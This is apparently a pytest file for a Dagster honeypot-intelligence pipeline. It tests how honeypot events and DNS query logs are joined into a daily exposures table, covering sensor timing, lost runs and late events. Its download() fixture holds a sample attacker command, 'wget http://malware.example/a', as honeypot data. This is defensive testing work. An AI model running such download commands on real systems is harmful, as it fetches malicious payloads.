"""The table between the streams in Dagster: asked for when either side changes, and shown.

Not here: what its rows say (`streams/test_exposures`).
"""

import json
from dataclasses import replace
from datetime import datetime, timedelta
from typing import Any

import dagster as dg
import pytest

from stingar_dagster import sensors
from stingar_dagster.outstanding import Outstanding
from stingar_dagster.streams import DNS
from stingar_dagster_tests.orchestration.daemon import Daemon, asked
from stingar_dagster_tests.orchestration.test_sensors import recently
from stingar_dagster_tests.support import MINUTE, Site, event, on_disk

pytestmark = [pytest.mark.filterwarnings("ignore::dagster.BetaWarning"), on_disk]

DAY = timedelta(days=1)


class Clock:
    """What the sensors' clock says."""

    def __init__(self) -> None:
        self.now = sensors._now()

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> Clock:
    clock = Clock()
    monkeypatch.setattr(sensors, "_now", clock)
    return clock


@pytest.fixture
def dns(site: Site) -> Site:
    """DNS logs in the same landing folder and lake."""
    return replace(site, stream=DNS, hub="dns", blobs={})


@pytest.fixture
def daemons(defs: dg.Definitions, instance: dg.DagsterInstance, clock: Clock) -> list[Daemon]:
    return [Daemon(defs, instance), Daemon(defs, instance, "dns")]


def query(moment: datetime, **fields: Any) -> bytes:
    known = {"ts": moment.timestamp(), "id.orig_h": "198.51.100.1", "query": "malware.example"}
    return json.dumps({**known, **fields}).encode()


def download(moment: datetime) -> bytes:
    return event(moment, command="wget http://malware.example/a")


def test_a_change_of_honeypots_is_followed_at_once_and_then_not_more_often_than_it_may(
    site: Site, dns: Site, daemons: list[Daemon], clock: Clock
) -> None:
    hour = recently()
    pots, resolvers = daemons
    dns.put([query(hour)], start=hour)
    resolvers.settle()
    assert dns.daily("daily_exposures") == []
    for number in range(3):
        # Nothing of the other stream changes what the stream's own day is asked for by.
        site.put([download(hour)], start=hour + number * MINUTE, first=number)
        pots.settle()
        assert asked(resolvers.tick("changed_days")) == []
        clock.now += sensors.OTHERS_SECONDS
        result = resolvers.tick("changed_days")
        assert asked(result) == [f"{hour:%Y-%m-%d}"]
        resolvers.run("roll", result)
        (row,) = dns.daily("daily_exposures")
        assert row["downloads"] == number + 1
    clock.now += sensors.OTHERS_SECONDS
    assert asked(resolvers.tick("changed_days")) == []


def test_a_run_that_was_lost_is_asked_for_again(
    site: Site, dns: Site, daemons: list[Daemon], clock: Clock
) -> None:
    hour = recently()
    pots, resolvers = daemons
    dns.put([query(hour)], start=hour)
    resolvers.settle()
    site.put([download(hour)], start=hour)
    pots.settle()
    for _ in range(2):
        clock.now += sensors.OTHERS_SECONDS
        lost = resolvers.tick("changed_days")
        assert asked(lost) == [f"{hour:%Y-%m-%d}"]
        assert asked(resolvers.tick("changed_days")) == []
    resolvers.run("roll", lost)
    assert len(dns.daily("daily_exposures")) == 1


def test_late_events_of_a_honeypot_open_the_days_of_the_week_after(
    site: Site, dns: Site, daemons: list[Daemon], clock: Clock
) -> None:
    hour = recently() - 10 * DAY
    pots, resolvers = daemons
    days = (0, 3, 7, 8)
    dns.put([query(hour + number * DAY) for number in days], start=hour + 8 * DAY)
    # Logged on those days, and all of them received in the end.
    resolvers.settle()
    site.put([download(hour)], start=hour + 9 * DAY, received=hour)
    pots.settle()
    clock.now += sensors.OTHERS_SECONDS
    assert asked(resolvers.tick("changed_days")) == [
        f"{hour + number * DAY:%Y-%m-%d}" for number in (0, 3, 7)
    ]


def test_a_run_without_the_ui_brings_the_table_up_to_date(
    site: Site, dns: Site, monkeypatch: pytest.MonkeyPatch, tmp_path: Any
) -> None:
    from stingar_dagster.runner import run

    hour = recently()
    monkeypatch.delenv("DAGSTER_HOME", raising=False)
    with dg.DagsterInstance.ephemeral() as instance:
        for late in (False, True):
            if not late:
                dns.put([query(hour)], start=hour)
            site.put([download(hour)], start=hour + late * MINUTE, first=int(late))
            for stream in (site, dns):
                outcome = run(Outstanding(stream.pipeline(), None, None), instance, lambda *_: None)
                assert not outcome.failures
            (row,) = dns.daily("daily_exposures")
            assert row["downloads"] == 1 + late
            assert not Outstanding(dns.pipeline(), None, None)


def test_the_ui_shows_its_rows_and_counts(
    site: Site, dns: Site, defs: dg.Definitions, instance: dg.DagsterInstance
) -> None:
    hour = recently() - 2 * DAY
    site.put([download(hour)], start=hour)
    site.run()
    dns.put([query(hour)], start=hour)
    dns.run()
    job = defs.resolve_job_def("dns_roll")
    job.execute_in_process(instance=instance, partition_key=f"{hour:%Y-%m-%d}")
    key = dg.AssetKey(["dns", "daily_exposures"])
    (record,) = instance.fetch_materializations(key, limit=1).records
    assert record.asset_materialization is not None
    metadata = record.asset_materialization.metadata
    assert metadata["dagster/row_count"].value == 1
    first = metadata["first rows"].value
    assert "malware.example" in str(first)
